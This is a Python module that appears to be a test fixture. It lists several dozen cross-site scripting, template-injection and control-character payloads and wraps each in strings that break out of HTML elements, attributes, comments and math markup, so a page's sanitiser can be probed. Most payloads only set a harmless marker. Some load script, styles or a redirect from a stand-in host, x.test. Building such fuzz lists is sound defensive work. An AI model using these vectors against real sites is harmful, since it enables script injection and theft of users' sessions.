"""What people type who would like a page to do something: over 200 texts, for answers, names and file names.

Every one that could run sets `window.hit`.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=//x.test/a.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img/src=x/onerror=window.hit=1>",
    "<IMG SRC=x ONERROR='window.hit=1'>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.hit=1>'/></svg>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>",
    "<a href=javascript:window.hit=1 id=go>go</a>",
    "<form action=//x.test><input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<math><mtext><script>window.hit=1</script></mtext></math>",
    "<math><maction xlink:href='javascript:window.hit=1'>x</maction></math>",
    "<style>@import '//x.test/a.css';</style>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<base href=//x.test/>",
    "<meta http-equiv=refresh content='0;url=//x.test/'>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<plaintext>",
    "<marquee onstart=window.hit=1>",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{{ ''.__class__.__mro__ }}",
    "{# a note #}",
    "${7*7}",
    "<%= 7*7 %>",
    "\u202eright to left",
    "\u2066isolate\u2069",
    "zero\u200bwidth",
    "a\u0000b\u001b[2Jc",
    "\ud800 alone",
    "\ufffe\uffff",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "$\\text{<img src=x onerror=window.hit=1>}$",
    "$\\href{javascript:window.hit=1}{x}$",
    "$\\class{a}{b}\\style{c}{d}$",
)

# Where the text would have to get out of: an element, an attribute, a comment, a style sheet, mathematics.
OUT_OF = ("{}", "\"'>{}", "--></title></style></textarea>{}", "]]></math></svg></text>{}", "x = 1\n`{}`")

EVERY = tuple(way.replace("{}", payload) for payload in PAYLOADS for way in OUT_OF)
